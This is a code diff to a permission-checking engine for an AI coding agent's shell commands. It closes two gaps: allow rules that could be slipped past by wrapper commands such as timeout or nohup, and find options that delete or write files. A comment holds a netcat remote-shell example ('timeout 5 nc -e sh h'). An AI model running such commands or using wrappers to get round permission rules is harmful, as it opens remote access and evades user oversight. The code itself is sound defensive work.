@@ -40,6 +40,7 @@ from typing import Any, Iterable, Mapping
 from policy.engine import destructive
 from policy.engine.bash_types import BashAnalysis, SimpleCommand
 from policy.engine.commands import ACTIVATE_SCRIPT, CRITICAL_FILES, SYSTEM_DIRS
+from policy.engine.commands import PRIVILEGE as PRIVILEGE_NAMES
 from policy.engine.paths import HARMLESS_WRITE_TARGETS, home_of, is_inside, normalize_path
 from policy.engine.permissions import (
     harmless_env,
@@ -100,6 +101,7 @@ ASK_PARTIAL = "ask_partial"
 GREP_TOOL = "Grep"
 _BRACES = re.compile(r"\{[^{}]*\}")
 _SHELL_GLOB_CHAR = re.compile(r"[*?\[]")
+_FIND_WRITES = frozenset({"-delete", "-fprint", "-fprint0", "-fprintf", "-fls"})
 _CRITICAL_DIRS = tuple(c + "/" for c in sorted(CRITICAL_FILES))
 REASON_GUARD = "guard {id}: {reason}"
 REASON_DANGEROUS = "dangerous command: {reason}: {part}"
@@ -186,6 +188,32 @@ def evaluate(snapshot: Snapshot, request: Request) -> Decision:
         return Decision(DENY, REASON_ENGINE_ERROR.format(error=type(exc).__name__), ENGINE_ERROR_CHECK,
                         mode=mode, flags=tuple(ev.flags), threat_events=tuple(ev.events))
     return ev.stage3(decision)
+
+
+# wrappers an allow rule looks through, as Claude Code strips them: the rule is matched
+# against the command they run (Bash(timeout:*) does not allow timeout 5 nc -e sh h)
+_ALLOW_WRAPPERS = frozenset({"timeout", "time", "nice", "nohup", "stdbuf", "ionice", "command", "builtin", "env",
+                             "xargs", "caffeinate", "setsid"})
+
+
+def _allow_words(c) -> tuple[str, ...] | None:
+    """The words an allow rule is matched against: as written, except behind the
+    wrappers Claude Code strips (timeout, nice, nohup...), where they are the wrapped
+    command's own (a rule on the wrapper does not cover whatever it runs; None when a
+    privilege wrapper hides in the chain)."""
+    written = c.written
+    if not written or not c.argv:
+        return None
+    first = posixpath.basename(written[0])
+    if first not in _ALLOW_WRAPPERS or first == c.argv[0]:
+        return written
+    names = [posixpath.basename(w) for w in written]
+    if c.argv[0] not in names:
+        return None
+    head = names[:names.index(c.argv[0])]
+    if any(n in PRIVILEGE_NAMES for n in head):
+        return None
+    return tuple(c.argv)
 
 
 def _is_activate(c, cwd: str | None) -> bool:
@@ -722,7 +750,9 @@ class _Evaluation:
                     if not self.part_allowable(c):
                         names = []
                         break
-                    hit = next((r.text for r in bash_rules if bash_allow_matches(r, c.written)), None)
+                    words = _allow_words(c)
+                    hit = None if words is None else next(
+                        (r.text for r in bash_rules if bash_allow_matches(r, words)), None)
                     if hit is None:
                         names = []
                         break
@@ -753,6 +783,8 @@ class _Evaluation:
     def part_allowable(self, c: SimpleCommand) -> bool:
         if c.dynamic_name or not c.written or not c.argv or c.name in _RUNS_TEXT:
             return False
+        if c.name == "find" and any(v in _FIND_WRITES for v in c.argv[1:]):
+            return False   # Bash(find:*) is not find . -delete (a write through an option)
         if not all(harmless_env(name, value, c.name) for name, value in c.env):
             return False
         for r in c.redirects:
